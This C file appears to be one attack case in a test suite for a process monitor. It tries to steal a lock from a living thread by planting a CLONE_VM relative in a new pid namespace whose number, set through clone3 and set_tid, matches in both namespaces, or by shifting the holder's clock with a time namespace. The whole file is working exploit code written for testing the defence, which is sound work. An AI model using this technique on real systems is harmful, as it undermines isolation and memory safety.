// A lock of the monitor passes to an heir when its holder is dead, and the holder is known by its number. Here the heir is a
// CLONE_VM relative in a pid namespace of its own, in which it has chosen (clone3 with set_tid) the number that it has in
// the container's, too: there the living holder's number is nobody's. With the argument "time" the holder enters a time
// namespace, where it seems to have begun later than it has said. The holder maps populated memory, which takes long.
#include "attack.h"
#include <linux/sched.h>
#include <pthread.h>

#define POPULATED (256UL << 20)
#define STACK (64UL << 10)

static volatile int go, done, mapped;
static volatile long inner;

static void fault(int sig) {
    (void)sig;
    attack_won("memory that a thread has just mapped is gone: a relative took the lock of the living thread");
}

// The holder: maps, and looks whether the memory is there.
static void hold(void) {
    char *p = mmap(NULL, POPULATED, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    mapped++;
    if (p == MAP_FAILED)
        attack_broken("mmap");
    for (size_t at = 0; at < POPULATED; at += 4096)
        p[at] = 1;
    munmap(p, POPULATED);
}

static void *holder(void *unused) {
    while (!go)
        usleep(1000);
    while (!done)
        hold();
    return unused;
}

// The heir. It shares the parent's memory and thread area.
static void __attribute__((noreturn)) heir(void) {
    inner = attack_bare(SYS_gettid, 0, 0, 0, 0, 0, 0);
    while (!done) {
        long p = attack_bare(SYS_mmap, 0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p > 0)
            attack_bare(SYS_munmap, p, 4096, 0, 0, 0, 0);
    }
    for (;;)
        attack_bare(SYS_exit, 0, 0, 0, 0, 0, 0);
}

// A relative; with a tid in the children's pid namespace, where it has that number. Its number here.
static pid_t relative(pid_t tid) {
    static char *stack;
    if (!stack)
        stack = mmap(NULL, STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct clone_args a = {.flags = CLONE_VM | CLONE_FILES,
                           .exit_signal = SIGCHLD,
                           .stack = (uint64_t)stack,
                           .stack_size = STACK,
                           .set_tid = tid ? (uint64_t)&tid : 0,
                           .set_tid_size = tid != 0};
    long r;
    __asm__ volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\tcall *%[heir]\n1:"
                     : "=a"(r)
                     : "a"(SYS_clone3), "D"(&a), "S"(sizeof a), [heir] "r"(heir)
                     : "rcx", "r11", "memory");
    errno = r < 0 ? (int)-r : 0;
    if (r < 0)
        attack_broken("clone3");
    return (pid_t)r;
}

static void stop_with_parent(void) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (;;)
        pause();
}

// The heir's number is the same in the container's pid namespace and in its own. The holder is a thread.
static void same_number(void) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, holder, NULL) != 0)
        attack_broken("pthread_create");
    if (unshare(CLONE_NEWPID) < 0)
        attack_broken("unshare a pid namespace");
    pid_t init = fork(), guess = init + 2, number = 0;
    if (init == 0)
        stop_with_parent();
    for (int i = 0; i < 50 && number != guess; i++) {
        if (number) { // another has come in between
            kill(number, SIGKILL);
            waitpid(number, NULL, 0);
            guess = number + 1;
        }
        number = relative(guess);
    }
    if (number != guess)
        attack_broken("no number is the same in both namespaces");
    go = 1;
    while (!attack_over())
        usleep(1000);
    done = 1;
    usleep(100000);
    if (inner != number)
        attack_broken("the heir has another number");
    kill(init, SIGKILL);
}

// The clock of the holder, the first thread, goes ahead by a day.
static void later(void) {
    const char *offset = "boottime 86400 0\n";
    if (unshare(CLONE_NEWTIME) < 0)
        attack_broken("unshare a time namespace");
    int fd = open("/proc/self/timens_offsets", O_WRONLY);
    if (write(fd, offset, strlen(offset)) < 0)
        attack_broken("timens_offsets");
    close(fd);
    fd = open("/proc/self/ns/time_for_children", O_RDONLY);
    if (setns(fd, CLONE_NEWTIME) < 0)
        attack_broken("setns of a time namespace");
    close(fd);
    relative(0);
    while (!attack_over())
        hold();
    done = 1;
    usleep(100000);
}

int main(int argc, char **argv) {
    signal(SIGSEGV, fault);
    signal(SIGBUS, fault);
    if (unshare(CLONE_NEWUSER) < 0)
        attack_broken("unshare a user namespace");
    if (argc > 1 && strcmp(argv[1], "time") == 0)
        later();
    else
        same_number();
    if (!mapped || !inner)
        attack_broken("nothing was tried");
    attack_lost();
}
